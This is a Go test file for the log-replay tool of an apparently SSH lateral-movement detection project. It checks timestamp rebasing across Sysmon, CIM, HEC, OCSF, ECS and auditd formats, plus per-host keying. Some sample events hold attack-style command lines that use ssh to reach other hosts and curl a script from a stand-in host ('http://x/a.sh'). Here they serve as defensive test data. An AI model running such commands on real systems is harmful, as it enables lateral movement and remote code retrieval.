package main

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sshlateral/sshlateral/consumer/decode"
	"github.com/sshlateral/sshlateral/processor"
)

// eventTime decodes line and returns its event time.
func eventTime(t *testing.T, line []byte) time.Time {
	t.Helper()
	dec, err := decode.NewDecoder(decode.FormatAuto)
	if err != nil {
		t.Fatal(err)
	}
	var ev processor.Event
	outcome, err := dec.DecodeFull(line, &ev)
	if err != nil || outcome != decode.OutcomeEvent {
		t.Fatalf("decode %q: %v, %v", line, outcome, err)
	}
	return ev.Time
}

// --rebase shifts every time form the decoders accept by the same amount and
// keeps its layout; the decoded event time moves by exactly that amount.
func TestRebaseEveryTimeForm(t *testing.T) {
	sysmon := string(bytes.SplitN(sampleEvents, []byte("\n"), 2)[0])
	_, xml, ok := strings.Cut(sysmon, " sysmon: ")
	if !ok {
		t.Fatalf("sample line has no syslog header: %q", sysmon)
	}
	const delta = 49*time.Hour + 30*time.Minute
	cim := `{"_time":%s,"dest":"web-01","user":"root","process":"ssh -o BatchMode=yes db-01 sh -c 'id'","process_name":"ssh","process_id":4242,"parent_process":"bash","parent_process_name":"bash","parent_process_id":4200}`
	cases := []struct {
		name       string
		line       string
		wantText   []string // in the shifted line
		decodeTime bool     // the decoded event time moves by delta
	}{
		{"sysmon UtcTime and SystemTime behind an RFC 3339 syslog header", sysmon,
			[]string{"2026-11-04T11:23:00.156000+00:00 web-01", `SystemTime="2026-11-04T11:23:00.156000000Z"`, ">2026-11-04 11:23:00.000<"}, true},
		{"sysmon behind an RFC 3164 syslog header", "Nov  2 09:53:00 web-01 sysmon: " + xml,
			[]string{"Nov  4 11:23:00 web-01 sysmon: "}, true},
		{"RFC 3164 header with priority, across the new year", "<14>Dec 31 23:00:00 web-01 sysmon: " + xml,
			[]string{"<14>Jan  3 00:30:00 web-01 sysmon: "}, true},
		{"CIM epoch number", strings.Replace(cim, "%s", "1793613543.111", 1),
			[]string{`"_time":1793791743.111,`}, true},
		{"CIM epoch string", strings.Replace(cim, "%s", `"1793613543"`, 1),
			[]string{`"_time":"1793791743",`}, true},
		{"CIM RFC 3339 string", strings.Replace(cim, "%s", `"2026-11-02T09:53:00.000Z"`, 1),
			[]string{`"_time":"2026-11-04T11:23:00.000Z",`}, true},
		{"CIM RFC 3339 string with offset", strings.Replace(cim, "%s", `"2026-11-02T10:53:00+01:00"`, 1),
			[]string{`"_time":"2026-11-04T12:23:00+01:00",`}, true},
		{"CIM RFC 3339 string with a zero offset", strings.Replace(cim, "%s", `"2026-11-02T09:53:00+00:00"`, 1),
			[]string{`"_time":"2026-11-04T11:23:00+00:00",`}, true},
		{"HEC time in seconds around an object event", `{"time":1793613543.111,"host":"web-01","event":{"process_name":"ssh","process":"ssh -oBatchMode=yes h curl http://x/a.sh","user":"root"}}`,
			[]string{`"time":1793791743.111,`}, true},
		{"OCSF time in milliseconds", `{"class_uid":1007,"activity_id":1,"device":{"hostname":"web-01"},"actor":{"user":{"name":"root"}},"process":{"name":"ssh","cmd_line":"ssh -oBatchMode=yes h curl http://x/a.sh","pid":7},"time":1793613543111}`,
			[]string{`"time":1793791743111}`}, true},
		{"ECS numeric @timestamp in milliseconds", `{"@timestamp":1793613543111,"event":{"category":["process"],"type":["start"]},"host":{"name":"web-01"},"user":{"name":"root"},"process":{"name":"ssh","command_line":"ssh -oBatchMode=yes h curl http://x/a.sh","pid":7}}`,
			[]string{`"@timestamp":1793791743111,`}, true},
		{"auditd record stamp", `node=web-01 type=SYSCALL msg=audit(1793613543.111:7): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=4000 pid=4242 auid=1000 uid=0 gid=0 euid=0 comm="ssh" exe="/usr/bin/ssh" key=(null)`,
			[]string{`msg=audit(1793791743.111:7): `}, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rb := &rebaser{delta: delta, year: 2026}
			got := rb.apply([]byte(tc.line))
			for _, w := range tc.wantText {
				if !bytes.Contains(got, []byte(w)) {
					t.Errorf("shifted line lacks %q:\n%s", w, got)
				}
			}
			if tc.decodeTime {
				if before, after := eventTime(t, []byte(tc.line)), eventTime(t, got); !after.Equal(before.Add(delta)) {
					t.Errorf("event time %s, want %s + %s", after, before, delta)
				}
			}
		})
	}
}

// The first pass finds the first process event, skipping lines that are
// not one, and aims it at now.
func TestRebaserAimsFirstEventAtNow(t *testing.T) {
	path := filepath.Join(t.TempDir(), "in.log")
	first := `{"_time":"2026-11-02T09:53:00Z","dest":"web-01","user":"root","process":"ls","process_name":"ls","process_id":1,"parent_process":"bash","parent_process_name":"bash","parent_process_id":2}`
	if err := os.WriteFile(path, []byte("banner line\n"+first+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	now := time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC)
	rb, err := newRebaser(lineReader{max: defaultMaxRecordBytes}, []string{path}, now)
	if err != nil {
		t.Fatal(err)
	}
	if got := eventTime(t, rb.apply([]byte(first))); !got.Equal(now) {
		t.Fatalf("first event rebased to %s, want %s", got, now)
	}
}

// An auditd log (no single line is an event) is aimed by its first
// record's stamp.
func TestRebaserAimsAuditdAtNow(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit.log")
	sys := `type=SYSCALL msg=audit(1793613600.100:7): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 comm="ls" exe="/usr/bin/ls"`
	if err := os.WriteFile(path, []byte(sys+"\n"+`type=EXECVE msg=audit(1793613600.100:7): argc=1 a0="ls"`+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	now := time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC)
	rb, err := newRebaser(lineReader{max: defaultMaxRecordBytes}, []string{path}, now)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := string(rb.apply([]byte(sys))), fmt.Sprintf("msg=audit(%d.000:7)", now.Unix()); !strings.Contains(got, want) {
		t.Fatalf("first record rebased to %q, want %s", got, want)
	}
}

// TestReplayKeysByHost: replay keys each record by its host, so that a
// host's events (and an auditd event's several records) share a partition.
func TestReplayKeysByHost(t *testing.T) {
	k, err := newHostKeyer()
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, line, want string
	}{
		{"sysmon", `<Event><System><EventID>1</EventID><Computer>web-01</Computer></System><EventData><Data Name="UtcTime">2026-11-02 10:00:00.100</Data><Data Name="Image">/usr/bin/ls</Data></EventData></Event>`, "web-01"},
		{"cim", `{"_time":"2026-11-02T10:00:00Z","dest":"db-02","process_name":"ls"}`, "db-02"},
		{"auditd with node", `node=web-03 type=SYSCALL msg=audit(1793613600.100:7): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 comm="ls" exe="/usr/bin/ls"`, "web-03"},
		{"auditd part without node", `type=EXECVE msg=audit(1793613600.100:7): argc=1 a0="ls"`, "auditd"},
		{"banner", `Nov  2 10:00:00 web-01 sysmon: Sysmon started`, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := string(k.key([]byte(tc.line))); got != tc.want {
				t.Fatalf("key %q, want %q", got, tc.want)
			}
		})
	}
}
